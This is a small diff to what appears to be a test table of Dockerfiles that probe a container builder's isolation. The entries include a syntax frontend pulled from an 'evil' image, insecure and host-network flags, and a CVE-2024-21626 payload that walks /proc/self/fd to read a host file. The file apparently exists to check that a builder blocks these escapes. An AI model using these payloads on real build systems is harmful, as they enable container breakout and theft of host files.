@@ -34,7 +34,7 @@ BUILDS: dict[str, dict[str, Entry]] = {
     "syntax": {"Dockerfile": f"# syntax=quarantine.internal:5001/evil:1\n{BASE}RUN echo built by our own reader\n"},
     "insecure": {"Dockerfile": f"{BASE}RUN --security=insecure mount -t tmpfs none /mnt\n"},
     "host-network": {"Dockerfile": f"{BASE}RUN --network=host true\n"},
-    "device": {"Dockerfile": f"{BASE}RUN --device=vendor.example/device=all true\n"},
+    "device": {"Dockerfile": f"{BASE}RUN --device=name=vendor.example/device=all,required true\n"},
     # CVE-2024-21626: a folder of the builder's that is still open.
     **{
         f"descriptor-{number}": {"Dockerfile": f"{BASE}WORKDIR /proc/self/fd/{number}\nRUN cat ../../../..{STOLEN}\n"}
